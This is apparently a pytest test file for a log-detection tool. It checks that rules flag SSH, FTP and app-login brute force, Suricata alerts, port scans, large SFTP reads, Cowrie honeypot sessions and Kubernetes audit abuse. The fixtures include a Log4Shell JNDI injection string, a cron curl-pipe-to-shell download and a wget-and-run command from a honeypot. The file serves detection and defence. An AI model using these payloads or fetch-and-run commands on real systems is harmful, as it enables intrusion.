"""The shipped rules on application logs, journald, Suricata, cron, firewall, SFTP, FTP daemons and the Cowrie honeypot: each fires on an attack and stays quiet on a benign neighbour."""

from __future__ import annotations

import json
from datetime import datetime, timedelta

import pytest
from _rule_events import (
    T0,
    _k8s,
    by_rule,
    fired,
    parsed,
    syslog,
)

from logwarden.app.detect import Detector
from logwarden.app.events import Event, LogLine
from logwarden.app.parse import parse_lines


def test_journald_json_export_gets_the_syslog_rules(rules):
    records = [json.dumps({"__REALTIME_TIMESTAMP": str(1710229330000000 + i * 1_000_000), "_HOSTNAME": "web01",
                           "SYSLOG_IDENTIFIER": "sshd", "_PID": str(1200 + i),
                           "MESSAGE": f"Failed password for invalid user admin from 45.9.20.12 port {40000 + i} ssh2"})
               for i in range(6)]
    [signal] = by_rule(Detector(rules).scan(parsed(records, "json", "journal.json")), "lw-ssh-bruteforce")
    assert (signal.key, signal.line_numbers) == ("45.9.20.12", list(range(1, 7)))


def _eve(category: str, severity: int, src: str, event_type: str = "alert") -> str:
    record = {"timestamp": "2024-03-12T07:42:13.123456+0000", "event_type": event_type, "src_ip": src,
              "dest_ip": "10.0.0.4", "proto": "TCP"}
    if event_type == "alert":
        record["alert"] = {"signature_id": 2006446, "signature": "ET TEST signature", "category": category,
                           "severity": severity}
    return json.dumps(record)


@pytest.mark.parametrize("category, severity, rule_id, level", [
    ("Web Application Attack", 1, "lw-ids-exploit-attempt", "high"),
    ("Attempted Administrator Privilege Gain", 2, "lw-ids-exploit-attempt", "high"),
    ("Successful Administrator Privilege Gain", 1, "lw-ids-privilege-gained", "critical"),
    ("A Network Trojan was detected", 1, "lw-ids-malware", "high"),
    ("Detection of a Network Scan", 2, "lw-ids-scan", "medium"),
    ("Misc Attack", 2, "lw-ids-scan", "medium"),
    ("Potential Corporate Privacy Violation", 3, "lw-ids-policy", "low"),
])
def test_suricata_eve_alerts_map_to_categories(rules, category, severity, rule_id, level):
    lines = [_eve(category, severity, "45.9.20.11"), _eve("", 0, "10.0.0.5", event_type="flow")]
    signals = Detector(rules).scan(parsed(lines, "json", "eve.json"))
    assert [(s.rule_id, s.level, s.key, s.line_numbers) for s in signals] == [(rule_id, level, "45.9.20.11", [1])]


def test_low_severity_web_alert_is_not_an_exploit_record(rules):
    assert Detector(rules).scan(parsed([_eve("Web Application Attack", 3, "45.9.20.11")], "json", "eve.json")) == []


def generic(line: str, line_no: int = 1, ts: datetime = T0) -> Event:
    """The generic parser's event (it pulls the client and account out of login-failure lines)."""
    [event] = parse_lines([LogLine(source="app.log", inode=0, offset=0, line_no=line_no, text=line)], "generic")
    event.ts = ts
    return event


SPRING = "2024-03-12 08:20:{s:02d}.423  WARN 2231 --- [nio-8080-exec-5] c.e.shop.security.LoginAuditListener     : "


def test_application_login_failures_from_one_address(rules):
    lines = [generic(SPRING.format(s=i) + "Authentication failure for user 'admin' from 203.0.113.45: Bad credentials",
                     i, T0 + timedelta(seconds=i)) for i in range(1, 11)]
    assert by_rule(Detector(rules).scan(lines), "lw-app-login-failure-burst")[0].key == "203.0.113.45"
    ok = [generic(SPRING.format(s=i) + "Authentication success for user 'alice' from 10.0.0.5", i) for i in range(1, 20)]
    assert Detector(rules).scan(ok) == []


def test_credential_stuffing_in_rfc5424_structured_data(rules):
    users = ["admin", "alice", "j.smith", "support", "m.chen", "root"]
    lines = [f'<36>1 2024-03-12T08:15:2{i}.380791Z sso01.corp.example.com auth-svc 1187 LOGIN_FAIL '
             f'[auth@32473 user="{user}" src="203.0.113.45" reason="bad_password"] login failed'
             for i, user in enumerate(users, 1)]
    events = parsed(lines, "rfc5424", "rfc5424.log")
    signal = by_rule(Detector(rules).scan(events), "lw-app-credential-stuffing")[0]
    assert signal.key == "203.0.113.45" and "6 distinct user" in signal.description


@pytest.mark.parametrize("line, rule_id, level", [
    (SPRING.format(s=1) + "Rejected request GET /api/v1/search header X-Api-Version=${jndi:ldap://203.0.113.77:1389/a} from "
     "203.0.113.77", "lw-log4shell-any", "high"),
    ("java.lang.NullPointerException: Cannot invoke \"com.example.shop.model.Address.getCountry()\"",
     "lw-app-fatal-error", "low"),
    ("2024-03-12 18:21:47.635 ERROR 2231 --- [nio-8080-exec-5] o.h.engine.jdbc.spi.SqlExceptionHelper   : HikariPool-1 - "
     "Connection is not available, request timed out after 30000ms.", "lw-app-database-unavailable", "medium"),
])
def test_application_log_rules(detector, line, rule_id, level):
    signals = detector.scan([generic(line, 3)])
    assert [(s.rule_id, s.level, s.line_numbers) for s in signals] == [(rule_id, level, [3])]


def test_application_benign_lines(detector):
    lines = ["2024-03-12 08:00:00.001  INFO 2231 --- [           main] c.e.shop.ShopApplication : Started ShopApplication in 5.2 seconds",
             SPRING.format(s=2) + "Password policy check passed for user 'alice'"]
    assert detector.scan([generic(line, i) for i, line in enumerate(lines, 1)]) == []


def test_cron_download_and_execute_and_service_account_crontab(detector):
    cron = syslog("Mar 12 19:01:03 web01 CRON[8447]: (www-data) CMD (curl -fsSL http://203.0.113.77/k.sh | sh >/dev/null 2>&1)")
    tab = syslog("Mar 12 19:00:03 web01 crontab[8426]: (www-data) REPLACE (www-data)", 2)
    root_tab = syslog("Mar 12 19:00:03 web01 crontab[8426]: (root) REPLACE (root)", 3)
    backup = syslog("Mar 12 19:01:03 web01 CRON[8447]: (root) CMD (/usr/local/bin/backup.sh > /var/log/backup.log 2>&1)", 4)
    assert [(s.rule_id, s.level) for s in detector.scan([cron])] == [("lw-cron-download-and-execute", "high")]
    assert fired(detector.scan([tab])) == {"lw-crontab-changed-by-service-account"}
    assert detector.scan([root_tab, backup]) == []


def firewall(i: int, port: int, src: str = "203.0.113.14") -> Event:
    return syslog(f"Mar 12 07:35:{i:02d} db01 kernel: [277135.720897] filter_IN_public_REJECT: IN=eth0 OUT= "
                  f"MAC=0a:1b:2c:3d:4e:5f:0a:9e:8d:7c:6b:5a:08:00 SRC={src} DST=10.0.8.30 LEN=44 TOS=0x00 PREC=0x00 "
                  f"TTL=50 ID=59318 PROTO=TCP SPT=57871 DPT={port} WINDOW=1024 RES=0x00 SYN URGP=0", i)


def test_firewall_port_scan_needs_many_distinct_ports(rules):
    scan = [firewall(i, port) for i, port in enumerate([21, 22, 23, 25, 53, 80, 110, 143, 443, 445, 3306, 3389], 1)]
    assert by_rule(Detector(rules).scan(scan), "lw-firewall-port-scan")[0].key == "203.0.113.14"
    same_port = [firewall(i, 22) for i in range(1, 30)]
    assert Detector(rules).scan(same_port) == []


def test_sftp_large_read_but_not_a_small_one(detector):
    big = syslog('Mar 12 18:21:47 db01 sftp-server[6251]: close "/var/lib/pgsql/backups/prod_full.sql.gz" bytes read '
                 '4831838208 written 0')
    small = syslog('Mar 12 04:04:41 db01 sftp-server[4866]: close "/var/lib/pgsql/backups/prod_incr_19.sql.gz" bytes read '
                   '60060913 written 0', 2)
    assert fired(detector.scan([big])) == {"lw-sftp-large-download"}
    assert detector.scan([small]) == []


@pytest.mark.parametrize("lines, fmt, rule_id", [
    ([f"Jun 17 07:07:{i:02d} combo ftpd[{29504 + i}]: connection from 24.54.76.216 (24-54-76-216.bflony.adelphia.net) "
      "at Fri Jun 17 07:07:00 2005" for i in range(20)], "syslog", "lw-ftp-connection-flood"),  # LogHub Linux
    ([f'Mar 12 10:00:{i:02d} ftp vsftpd[{1234 + i}]: [root] FAIL LOGIN: Client "::ffff:45.9.20.11"' for i in range(5)],
     "syslog", "lw-ftp-login-failures"),
    ([f'Tue Mar 12 10:00:{i:02d} 2024 [pid {1234 + i}] [root] FAIL LOGIN: Client "45.9.20.11"' for i in range(5)],
     "generic", "lw-ftp-login-failures"),  # vsftpd.log's own format
    ([f"Mar 12 10:00:{i:02d} ftp proftpd[{1234 + i}]: ftp (45.9.20.11[45.9.20.11]) - USER root (Login failed): "
      "Incorrect password" for i in range(5)], "syslog", "lw-ftp-login-failures"),
    ([f"Mar 12 10:00:{i:02d} ftp pure-ftpd: (?@45.9.20.11) [WARNING] Authentication failed for user [admin]"
      for i in range(5)], "syslog", "lw-ftp-login-failures"),
])
def test_ftp_brute_force_and_connection_floods(rules, lines, fmt, rule_id):
    signals = Detector(rules).scan(parsed(lines, fmt, "ftp.log"))
    assert [(s.rule_id, s.key) for s in signals] == [(rule_id, "24.54.76.216" if "flood" in rule_id else "45.9.20.11")]
    assert Detector(rules).scan(parsed(lines[:4], fmt, "ftp.log")) == []


def _cowrie(eventid: str, second: int = 0, **extra) -> str:
    return json.dumps({"eventid": eventid, "timestamp": f"2024-05-02T10:00:{second:02d}.123456Z", "src_ip": "45.9.20.11",
                       "session": "a1b2c3", "sensor": "hp1", **extra})


def test_cowrie_honeypot_sessions(rules):
    failed = [_cowrie("cowrie.login.failed", i, username="root", password=f"pw{i}") for i in range(5)]
    session = [_cowrie("cowrie.login.success", 6, username="root", password="admin"),
               _cowrie("cowrie.command.input", 7, input="uname -a"),
               _cowrie("cowrie.command.input", 8, input="cd /tmp; wget http://45.9.20.11/bins.sh; chmod 777 bins.sh; sh bins.sh"),
               _cowrie("cowrie.session.file_download", 9, url="http://45.9.20.11/bins.sh", shasum="ab" * 32)]
    signals = Detector(rules).scan(parsed(failed + session, "json", "cowrie.json"))
    assert {(s.rule_id, s.level) for s in signals} == {("lw-cowrie-login-bruteforce", "medium"),
                                                       ("lw-cowrie-login-success", "high"),
                                                       ("lw-cowrie-malware-download", "high")}
    assert [s.line_numbers for s in signals if s.rule_id == "lw-cowrie-malware-download"] == [[8, 9]]


@pytest.mark.parametrize("lines, rule_id", [
    ([_k8s("create", "pods", subresource="exec", code=101)], "lw-k8s-exec-into-pod"),
    ([_k8s("create", "clusterrolebindings", code=201, body={"kind": "ClusterRoleBinding", "roleRef": {
        "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}})], "lw-k8s-cluster-admin-granted"),
    ([_k8s("create", "pods", code=201, body={"spec": {"hostPID": True, "containers": [{"name": "x", "image": "alpine",
                                             "securityContext": {"privileged": True}}]}})], "lw-k8s-privileged-pod"),
    ([_k8s("get", "secrets", name=f"s{i}", second=i) for i in range(10)], "lw-k8s-secrets-harvest"),
    ([_k8s("list", "pods", user="system:anonymous", uri="/api/v1/pods")], "lw-k8s-anonymous-access"),
    ([_k8s("list", "secrets", code=403, user="system:serviceaccount:prod:web", second=i) for i in range(10)],
     "lw-k8s-forbidden-burst"),
])
def test_kubernetes_audit_rules(rules, lines, rule_id):
    events = parsed(lines, "json", "k8s-audit.log")
    assert (events[0].fields["src_ip"], events[0].ts is not None) == ("45.9.20.11", True)
    assert fired(Detector(rules).scan(events)) == {rule_id}
